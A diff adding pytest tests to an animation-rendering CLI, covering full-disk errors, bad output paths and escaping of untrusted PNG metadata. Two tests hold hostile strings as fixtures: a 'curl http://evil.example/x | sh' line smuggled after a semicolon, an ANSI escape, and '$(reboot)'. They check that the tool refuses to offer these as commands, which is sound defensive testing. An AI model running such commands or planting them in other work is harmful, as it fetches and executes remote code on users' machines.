@@ -68,3 +68,69 @@ def test_metadata_too_big_for_an_mp4_tag_is_one_line(tmp_path):
 
     with pytest.raises(ConfigError, match=r"is 150,0\d\d bytes, over the 100,000 one mp4 tag can take"):
         check_writer(Path(tmp_path / "x.mp4"), fps=30, size=(32, 18), metadata={"k": "v" * 150_000})
+
+
+def test_a_full_disk_mid_sequence_is_one_line_and_leaves_no_empty_folder(tmp_path, monkeypatch, capsys):
+    # Was: a generic OSError and an empty folder left behind.
+    import errno
+
+    from cppn_motion.encoders import png
+
+    calls = []
+
+    def full(frame, path, metadata):
+        calls.append(path)
+        if len(calls) > 1:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        png.Image.fromarray(frame).save(path, format="PNG")
+
+    monkeypatch.setattr(png, "save_png", full)
+    status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / "new" / "deeper" / "f_%04d.png")])
+    assert status == 1 and "No space left on device (" in err and "MiB free in" in err, err
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("make, says", [(lambda p: p.mkdir(), "is a folder"),
+                                        (lambda p: None, "File name too long")])
+def test_a_segmented_render_checks_the_output_path_first(make, says, tmp_path, capsys):
+    # Was: every segment rendered, then IsADirectoryError / OSError, exit 1.
+    target = tmp_path / ("clip.mp4" if says == "is a folder" else "c" * 300 + ".mp4")
+    make(target)
+    status, err = one_line(capsys, ["render", *TINY, "-o", str(target), "--resume"])
+    assert status == 2 and says in err, err
+    assert [p.name for p in tmp_path.iterdir()] == (["clip.mp4"] if says == "is a folder" else [])
+
+
+def test_a_file_used_as_a_folder_is_one_line(tmp_path, capsys):
+    (tmp_path / "afile").write_text("x")
+    for flags in ([], ["--resume"]):
+        status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / "afile" / "x.mp4"), *flags])
+        assert status == 2 and "cannot write there" in err, err
+
+
+def test_text_from_a_file_reaches_the_terminal_escaped_and_is_never_offered_as_a_command(tmp_path, capsys):
+    # Was: a PNG's cppn_motion_command put an ANSI clear-screen and a paste-ready
+    # '...; curl http://evil.example/x | sh' "make it again with:" line on the terminal.
+    from PIL import Image, PngImagePlugin
+
+    from cppn_motion.config.presets import preset_to_yaml
+    from tests.tiny import tiny_preset
+
+    png = tmp_path / "shared.png"
+    info = PngImagePlugin.PngInfo()
+    info.add_text("cppn_motion_preset", preset_to_yaml(tiny_preset()))
+    info.add_text("cppn_motion_command", "grow \x1b[2J--mode depth; curl http://evil.example/x | sh")
+    Image.new("RGB", (32, 18)).save(png, pnginfo=info)
+    status, err = one_line(capsys, ["render", "--from", str(png), "--quiet"])
+    assert status == 2 and "\x1b" not in err and "\\x1b" in err, err
+    assert "make it again" not in err and "cannot be re-rendered" in err, err
+
+
+def test_recorded_commands_of_our_own_are_still_offered():
+    from cppn_motion.cli.quality import safe_to_show
+
+    assert safe_to_show("--mode depth --hold 6 --blend 0 --time 0.0")
+    assert safe_to_show("--vary net.depth+net.width=1+100,10+10 --vary 'colour.mode=rgb,hsv' --time 0.25") is False
+    assert safe_to_show("--vary net.depth=1,2 --time 0.25")
+    assert not safe_to_show("--time 0; curl http://evil.example/x | sh")
+    assert not safe_to_show("--time $(reboot)")
